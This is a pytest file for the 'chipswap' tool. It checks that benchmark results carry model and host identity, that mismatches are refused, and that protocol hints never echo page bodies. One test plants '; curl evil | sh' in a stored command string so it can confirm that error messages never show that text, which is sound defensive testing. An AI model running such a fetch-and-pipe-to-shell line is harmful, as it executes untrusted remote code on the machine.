"""Bench results carry identity (chipswap.bench/2); `chipswap plan --bench` matches it against the workload:
another model or a machine that cannot be the declared instance is one line, exit 2, unless
--accept-bench-mismatch (then the label says so); a /1 file is refused with the command that regenerates it.
The end-to-end case is the issue's repro: chipswap serve (tiny-distilbert) on loopback, benched with
--instance inf2.xlarge, fed to the BERT-base classifier example."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.responses import HTMLResponse

from chipswap.bench import read_bench_results
from chipswap.bench.identity import (
    BenchIdentity,
    build_identity,
    host_mismatch,
    model_mismatch,
    names_match,
    parse_identity,
)
from chipswap.bench.job import BenchOptions, run_bench
from chipswap.bench.results import REGENERATE
from chipswap.errors import ChipswapError
from tests.cli_helpers import run_inproc
from tests.serve_helpers import run_app


# ----------------------------------------------------------------------------------------------- pure
def test_names_and_parameters_decide_the_model() -> None:
    assert names_match("llama-3-8b", "meta-llama/Meta-Llama-3-8B-Instruct")
    assert names_match("bert-base", "bert-base-uncased") and names_match("bert-base", "BERT")
    assert not names_match("bert-base", "tiny-distilbert") and not names_match("llama", "llama-3-70b")
    served = BenchIdentity(model_name="chat", model_root="/models/Meta-Llama-3-8B-Instruct")
    assert model_mismatch(served, "llama-3-8b", None) is None  # vLLM's root names the checkpoint
    tiny = BenchIdentity(model_name="tiny-distilbert", parameters=66_658)
    msg = model_mismatch(tiny, "bert-base", 109_482_240)
    assert msg is not None and "tiny-distilbert" in msg and "bert-base" in msg and "109.5M" in msg
    assert model_mismatch(tiny, "my-model", 70_000) is None  # same size within 10%: the same model renamed
    assert model_mismatch(tiny, "tiny-distilbert", None) is None
    assert model_mismatch(BenchIdentity(), "bert-base", None) is not None  # a bench that names nothing
    assert model_mismatch(tiny, None, None) is None  # the workload names no model
    same = BenchIdentity(model_name="x", parameters=1, config_sha256="a" * 64)
    assert model_mismatch(same, "y", 10**9, "a" * 64) is None  # the same config is the same model


def test_host_must_be_able_to_be_the_declared_instance() -> None:
    cpu_box = BenchIdentity(beside_server=True, cpu_model="Xeon", cpus=2, neuron_devices=0)
    assert "no Neuron" in (host_mismatch(cpu_box, "inf2.xlarge", "inferentia", "Inferentia2", 1) or "")
    assert "no GPU" in (host_mismatch(cpu_box, "g5.xlarge", "gpu", "A10G", 1) or "")
    h200 = BenchIdentity(beside_server=True, gpus=("NVIDIA H200",))
    assert "H200" in (host_mismatch(h200, "g5.xlarge", "gpu", "A10G", 1) or "")
    a10g = BenchIdentity(beside_server=True, gpus=("NVIDIA A10G",))
    assert host_mismatch(a10g, "g5.xlarge", "gpu", "A10G", 1) is None
    ec2 = BenchIdentity(beside_server=True, neuron_devices=1, ec2_instance_type="inf2.8xlarge")
    assert "inf2.8xlarge" in (host_mismatch(ec2, "inf2.xlarge", "inferentia", "Inferentia2", 1) or "")
    remote = BenchIdentity(beside_server=False)
    assert host_mismatch(remote, "inf2.xlarge", "inferentia", "Inferentia2", 1) is None  # nothing seen
    on_cpu = BenchIdentity(device="cpu", backend="onnxruntime")
    assert "CPU" in (host_mismatch(on_cpu, "inf2.xlarge", "inferentia", "Inferentia2", 1) or "")


def test_identity_block_round_trips_and_is_strict() -> None:
    doc = build_identity(
        info={"id": "m", "parameters": 5, "shapes": [[1, 16]], "backend": "neuron", "device": "neuron"},
        headers={"server": "uvicorn"},
        declared_instance="inf2.xlarge",
        host={"cpu_model": "c", "cpus": 4, "gpus": [], "neuron_devices": 1, "ec2_instance_type": None},
        prompt_tokens=[3, 9, 16],
    )
    ident = parse_identity(json.loads(json.dumps(doc)), "f.json")
    assert ident.model_name == "m" and ident.parameters == 5 and ident.compiled_shapes == ((1, 16),)
    assert ident.beside_server and ident.neuron_devices == 1 and ident.prompt_max == 16
    doc["model"]["parameters"] = "5"
    with pytest.raises(ChipswapError, match="identity.model.parameters"):
        parse_identity(doc, "f.json")


def test_old_schema_is_refused_with_the_command_that_regenerates_it(tmp_path: Path) -> None:
    p = tmp_path / "old.json"
    cmd = "chipswap bench http://127.0.0.1:8765 --instance inf2.xlarge --out b.json; curl evil | sh"
    p.write_text(json.dumps({"schema": "chipswap.bench/1", "tool": {"command": cmd}}))
    with pytest.raises(ChipswapError) as ei:
        read_bench_results(p)
    msg = str(ei.value)
    assert msg.endswith(f"regenerate them with: {REGENERATE}") and "\n" not in msg
    assert "curl" not in msg and "8765" not in msg  # the file's own text is never shown as a command


# ------------------------------------------------------------------------- protocol hints (loopback)
def test_bench_suggests_the_protocol_and_never_shows_bodies() -> None:
    openai = FastAPI()

    @openai.get("/v1/models")
    async def models():
        return {"object": "list", "data": [{"id": "meta-llama/Meta-Llama-3-8B", "owned_by": "vllm"}]}

    with run_app(openai) as url:
        doc = run_bench(BenchOptions(url=url, max_requests=3, duration_s=3, rate=5.0))
    assert not doc["complete"] and "rerun with --protocol chat" in doc["stop_reason"]

    web = FastAPI()

    @web.get("/{path:path}")
    async def page(path: str):
        return HTMLResponse("<!doctype html><html><body>It works! &amp; more</body></html>")

    with run_app(web) as url:
        for protocol, model in (("predict", None), ("chat", None), ("chat", "m")):
            doc = run_bench(
                BenchOptions(url=url, protocol=protocol, model=model, max_requests=5, duration_s=3, rate=10.0)
            )
            text = doc["stop_reason"] + json.dumps(doc["errors"])
            assert "It works" not in text and "&amp;" not in text, text
            assert "HTML page" in text, text


# ------------------------------------------------------------------ the repro, end to end
@pytest.fixture(scope="module")
def compiled(tmp_path_factory):
    from tests.serve_helpers import compiled_tiny

    return compiled_tiny(tmp_path_factory.getbasetemp())


def _serve(compiled, backend: str | None = None):
    from chipswap.compile.cache import ArtifactCache
    from chipswap.serve.batcher import BatcherConfig
    from chipswap.serve.served import load_compiled_model, read_compiled_set
    from chipswap.serve.server import ServeConfig, ServingEngine, start_background
    from tests.serve_helpers import ort_threads

    path, cache_dir = compiled
    cset = read_compiled_set(path)

    def loader():
        with ort_threads(1):
            model = load_compiled_model(cset, ArtifactCache(cache_dir))
        if backend is not None:  # stands in for the same set compiled for Neuron on an inf2 host
            model.backend = backend
        return model

    cfg = ServeConfig(port=0, batcher=BatcherConfig(max_batch_delay_s=0.01))
    return start_background(ServingEngine(str(cset["model"]), loader, cfg))


def _bench(capsys, url: str, out: Path) -> None:
    code, _, err = run_inproc(
        capsys, "bench", url, "--requests", "20", "--rate", "20", "--duration", "5",
        "--slo-ms", "5000", "--instance", "inf2.xlarge", "--out", str(out),
    )  # fmt: skip
    assert code == 0, err


@pytest.mark.slow
def test_repro_wrong_model_on_this_machine_is_refused(compiled, tmp_path, capsys) -> None:
    b = tmp_path / "b.json"
    with _serve(compiled) as srv:
        _bench(capsys, srv.url, b)
    ident = json.loads(b.read_text())["identity"]
    assert ident["model"]["name"] == "tiny-distilbert" and ident["model"]["parameters"] > 0
    assert ident["server"]["software"].startswith("chipswap serve") and ident["host"]["beside_server"]
    args = (
        "plan",
        "--example",
        "classifier-serving",
        "--bench",
        str(b),
        "--no-aws",
        "--out",
        str(tmp_path / "r"),
    )
    code, out, err = run_inproc(capsys, *args)
    assert code == 2 and err.count("\n") == 1, err
    assert "tiny-distilbert" in err and "bert-base" in err and "--accept-bench-mismatch" in err
    assert not (tmp_path / "r" / "report.json").exists()  # nothing half-written
    code, out, err = run_inproc(capsys, *args, "--accept-bench-mismatch", "--json")
    assert code == 0, err
    inf2 = next(c for c in json.loads(out)["candidates"] if c["instance"] == "inf2.xlarge")
    assert "mismatch accepted" in json.dumps(inf2)


@pytest.mark.slow
def test_matching_bench_is_accepted_and_labelled_measured(compiled, tmp_path, capsys, monkeypatch) -> None:
    """The same model on a machine that can be an inf2.xlarge (its detection stood in for: this test
    machine has no Neuron device) is used as a plain measured figure."""
    import chipswap.bench.host as host
    from chipswap.cli.plan import example_path

    monkeypatch.setattr(
        host,
        "detect_host",
        lambda: {"cpu_model": "AMD EPYC 7R13", "cpus": 4, "gpus": [], "neuron_devices": 1,
                 "ec2_instance_type": "inf2.xlarge"},
    )  # fmt: skip
    b = tmp_path / "b.json"
    with _serve(compiled, backend="neuron") as srv:
        _bench(capsys, srv.url, b)
    wl = tmp_path / "tiny.toml"
    wl.write_text(example_path("classifier-serving").read_text().replace('"bert-base"', '"tiny-distilbert"'))
    code, out, err = run_inproc(
        capsys, "plan", str(wl), "--bench", str(b), "--no-aws", "--json", "--out", str(tmp_path / "r")
    )
    assert code == 0, err
    inf2 = next(c for c in json.loads(out)["candidates"] if c["instance"] == "inf2.xlarge")
    assert '"source": "measured"' in json.dumps(inf2) and "mismatch" not in json.dumps(inf2)
